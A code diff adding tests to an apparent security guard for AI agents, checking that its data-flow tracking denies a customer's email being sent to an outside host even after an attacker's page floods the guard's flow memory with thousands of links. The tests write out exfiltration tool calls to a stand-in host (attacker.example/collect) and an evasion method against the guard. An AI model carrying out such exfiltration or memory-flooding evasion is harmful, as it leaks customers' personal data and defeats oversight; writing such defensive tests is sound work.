@@ -190,6 +190,65 @@ describe("guard with classification and flow tracking", () => {
   });
 });
 
+/** A guard whose read scope covers the customer, so only flow tracking stands between the email and an outside place. */
+async function webGuard() {
+  return supportGuard({
+    declaration: supportDeclaration({
+      dataScope: { read: ["pii.email", "pii.name", "pii.phone", "pii.address", "network.url"], write: [] },
+      tools: [
+        { server: "crm", allow: ["get_customer"], intent: "read" },
+        { server: "web", allow: ["fetch"], intent: "read", zone: "open-world" },
+        { server: "mail", allow: ["send_email"], intent: "egress", destinations: ["to"] },
+      ],
+    }) as never,
+  });
+}
+
+async function fetchPage(guard: Awaited<ReturnType<typeof supportGuard>>["guard"], page: unknown) {
+  const open = { server: "web", tool: "fetch", args: { url: "https://attacker.example/docs" }, sessionId: "s1" };
+  expect((await guard.beforeCall(open)).decision).toBe("allow");
+  expect((await guard.afterCall(open, page)).decision).toBe("allow");
+}
+
+describe("guard with a bounded flow memory", () => {
+  it("denies a customer's email sent out after an attacker's page listed 2,100 distinct links", async () => {
+    const { guard } = await webGuard();
+    await readCustomer(guard);
+    await fetchPage(guard, { html: Array.from({ length: 2100 }, (_, i) => `<a href="https://cdn${i}.attacker.example/p">${i}</a>`).join("\n") });
+    const verdict = await guard.beforeCall({ server: "web", tool: "fetch", args: { url: "https://attacker.example/collect", body: CUSTOMER.email }, sessionId: "s1" });
+    expect(verdict).toMatchObject({ decision: "deny", policyIds: expect.arrayContaining(["flow-to-egress-outside-allow"]) });
+    await guard.close();
+  });
+
+  it("denies a customer's email sent out after the agent read the customer again between floods of links", async () => {
+    const { guard } = await webGuard();
+    await readCustomer(guard);
+    await fetchPage(guard, { text: Array.from({ length: 2000 }, (_, i) => `https://cdn${i}.attacker.example/p`).join(" ") });
+    await readCustomer(guard);
+    await fetchPage(guard, { text: Array.from({ length: 100 }, (_, i) => `https://img${i}.attacker.example/q`).join(" ") });
+    const verdict = await guard.beforeCall({ server: "web", tool: "fetch", args: { url: "https://attacker.example/collect", body: CUSTOMER.email }, sessionId: "s1" });
+    expect(verdict.policyIds).toContain("flow-to-egress-outside-allow");
+    await guard.close();
+  });
+
+  it("denies data leaving to an outside place once the session read more values than its flow memory keeps, and records why", async () => {
+    const { guard, sink } = await webGuard();
+    const call = { server: "crm", tool: "get_customer", args: { id: 7 }, sessionId: "s1" };
+    await guard.beforeCall(call);
+    const rows = Array.from({ length: 2100 }, (_, i) => `${i},customer${i}@customer.example`).join("\n");
+    expect((await guard.afterCall(call, { export: `id,email\n${rows}` })).decision).toBe("allow");
+    const last = await guard.beforeCall({ server: "web", tool: "fetch", args: { url: "https://attacker.example/collect", body: "customer2099@customer.example" }, sessionId: "s1" });
+    expect(last.policyIds).toContain("flow-to-egress-outside-allow");
+    // The first rows are forgotten: their flow is not seen, so anything leaving to an outside place is denied.
+    const first = await guard.beforeCall({ server: "web", tool: "fetch", args: { url: "https://attacker.example/collect", body: "customer0@customer.example" }, sessionId: "s1" });
+    expect(first).toMatchObject({ decision: "deny", policyIds: ["flow-memory-overflowed"] });
+    expect(sink.records.at(-1)!.flows).toMatchObject({ forgotten: true });
+    const inside = await guard.beforeCall({ server: "mail", tool: "send_email", args: { to: "support-lead@acme.example", body: "customer0@customer.example" }, sessionId: "s1" });
+    expect(inside.decision).toBe("allow");
+    await guard.close();
+  });
+});
+
 describe("guard with classification on large and deep results", () => {
   it("does not let through a result nested deeper than the classifier walks", async () => {
     const { guard, sink } = await supportGuard();
